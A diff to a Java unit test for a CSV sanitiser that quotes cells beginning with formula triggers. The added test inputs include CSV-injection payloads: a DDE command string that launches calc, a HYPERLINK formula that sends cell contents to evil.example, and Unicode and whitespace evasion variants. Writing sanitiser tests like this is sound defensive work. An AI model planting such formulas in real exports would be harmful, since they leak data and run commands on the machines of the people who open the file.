@@ -26,7 +26,9 @@ import org.transferwatch.transfer.TransferStatus;
 class TransferCsvTest {
 
     @ParameterizedTest
-    @ValueSource(strings = { "=SUM(A1:A9)", "+31 20 555", "-2+3", "@cmd", "\tindented", "\rreturn", "\0nul" })
+    @ValueSource(strings = { "=SUM(A1:A9)", "+31 20 555", "-2+3", "@cmd", "\tindented", "\rreturn", "\0nul",
+            " =1+1", "  @SUM(1)", "\n=cmd|' /C calc'!A0", "\u00a0=1", "\u3000=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
+            "\uff20SUM(1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "'=1+1", "-" })
     void a_cell_starting_with_a_formula_trigger_gets_a_leading_quote(String value) {
         assertThat(TransferCsv.neutralise(value)).isEqualTo("'" + value);
         assertThat(TransferCsv.restore(TransferCsv.neutralise(value))).isEqualTo(value);
